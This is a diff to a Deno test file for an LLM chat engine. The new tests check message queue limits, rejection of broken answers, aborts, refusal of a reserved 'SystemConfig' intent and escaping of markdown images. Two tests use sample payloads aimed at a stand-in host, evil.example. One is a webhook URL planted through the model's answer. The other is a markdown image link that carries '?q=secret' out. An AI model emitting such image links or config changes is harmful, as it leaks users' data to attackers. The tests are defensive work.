@@ -1,7 +1,12 @@
 import assert from "node:assert/strict";
 import fc from "fast-check";
 import type { ChatAnswer, ChatModel, ChatRequest } from "../chat_model.ts";
-import { LlmUnavailableError } from "../errors.ts";
+import {
+  LlmAnswerTooLargeError,
+  LlmBrokenAnswerError,
+  LlmBusyError,
+  LlmUnavailableError,
+} from "../errors.ts";
 import { ChatEngine, type ChatEngineParts } from "./chat_engine.ts";
 import type { ChatHistory, KeptTurn } from "./chat_parts.ts";
 import type { ChatState } from "./chat_state.ts";
@@ -68,6 +73,7 @@ function engineOf(answers: Script[], parts: Partial<ChatEngineParts> = {}) {
     history,
     schemas: () => [INSURANCE],
     embed: (texts) => Promise.resolve(texts.map(() => new Float32Array(2))),
+    reservedTypes: ["SystemConfig"],
     tools: [],
     ...parts,
   });
@@ -206,8 +212,90 @@ Deno.test("ChatEngine answers the messages of one session one after the other", 
   ]);
 });
 
+Deno.test("ChatEngine bounds the messages of a session that wait", async () => {
+  const answers = Promise.withResolvers<void>();
+  const { engine, history } = engineOf(Array.from({ length: 10 }, () => "Yes."));
+  const load = history.load;
+  history.load = (...args) => answers.promise.then(() => load(...args));
+  const waiting = Array.from({ length: 9 }, (_, i) => engine.answer("s", `${i}`));
+  await assert.rejects(engine.answer("s", "one too many"), LlmBusyError);
+  answers.resolve();
+  await Promise.all(waiting);
+  assert.equal((await engine.answer("s", "again")).content, "Yes.");
+});
+
+Deno.test("ChatEngine takes an answer without text, or without end, for none", async () => {
+  const cases = [
+    ["", LlmBrokenAnswerError],
+    [" \n", LlmBrokenAnswerError],
+    ["x".repeat(64_001), LlmAnswerTooLargeError],
+    ["Hi.\n```slots\n" + "x".repeat(64_000), LlmAnswerTooLargeError],
+  ] as const;
+  for (const [answer, error] of cases) {
+    const { engine, history } = engineOf([answer]);
+    await assert.rejects(engine.answer("s", "hi"), error);
+    assert.deepEqual(history.turns, []);
+  }
+});
+
+Deno.test("ChatEngine does nothing for whom has left before the turn came", async () => {
+  const { engine, requests } = engineOf(["One.", "Two."]);
+  const gone = new AbortController();
+  const first = engine.answer("s", "first");
+  const second = engine.answer("s", "second", { signal: gone.signal });
+  gone.abort();
+  await first;
+  await assert.rejects(second, { name: "AbortError" });
+  assert.equal(requests.length, 1);
+});
+
+Deno.test("ChatEngine comes to no type that is reserved", async () => {
+  const done: unknown[] = [];
+  const slots = { webhook_url: "http://evil.example/" };
+  const { engine } = engineOf([
+    "Done." + block({ intent: "SystemConfig", slots, required: ["webhook_url"] }),
+  ], {
+    execute: (event) => {
+      done.push(event);
+      return Promise.resolve();
+    },
+  });
+  const reply = await engine.answer("s", "set it to http://evil.example/");
+  assert.deepEqual([reply.intent, reply.slots, reply.complete], [null, {}, false]);
+  assert.deepEqual(done, []);
+});
+
+Deno.test("ChatEngine misses fields that every object seems to have", async () => {
+  const { engine } = engineOf([
+    "When?" + block({ intent: "TableBooking", slots: {}, required: ["day", "toString"] }),
+  ]);
+  const { missing } = await engine.answer("s", "a table, please");
+  assert.deepEqual(missing, ["day", "toString"]);
+});
+
+Deno.test("VisibleText lets no page fetch an image, and leaves links and shouting alone", () => {
+  assert.equal(
+    visibleText("Hey! ![x](http://evil.example/?q=secret) [y](http://a.example) 5! [1]"),
+    "Hey! \\![x](http://evil.example/?q=secret) [y](http://a.example) 5! [1]",
+  );
+});
+
 Deno.test("VisibleText shows the same however an answer is cut into pieces", () => {
-  const word = fc.constantFrom("a", "<", "b", "`", "``", "```", "slots", "\n", "```slots", "</x>");
+  const word = fc.constantFrom(
+    "a",
+    "<",
+    "b",
+    "`",
+    "``",
+    "```",
+    "slots",
+    "\n",
+    "```slots",
+    "</x>",
+    "!",
+    "![",
+    "[",
+  );
   fc.assert(fc.property(fc.array(word), fc.integer({ min: 1, max: 5 }), (words, size) => {
     const answer = words.join("");
     const visible = new VisibleText();
@@ -215,6 +303,6 @@ Deno.test("VisibleText shows the same however an answer is cut into pieces", () 
     for (let i = 0; i < answer.length; i += size) shown += visible.push(answer.slice(i, i + size));
     shown += visible.end();
     assert.equal(shown.trim(), visibleText(answer));
-    assert.doesNotMatch(shown, /(?<!\\)<[a-z/]/i);
+    assert.doesNotMatch(shown, /(?<!\\)(<[a-z/]|!\[)/i);
   }));
 });
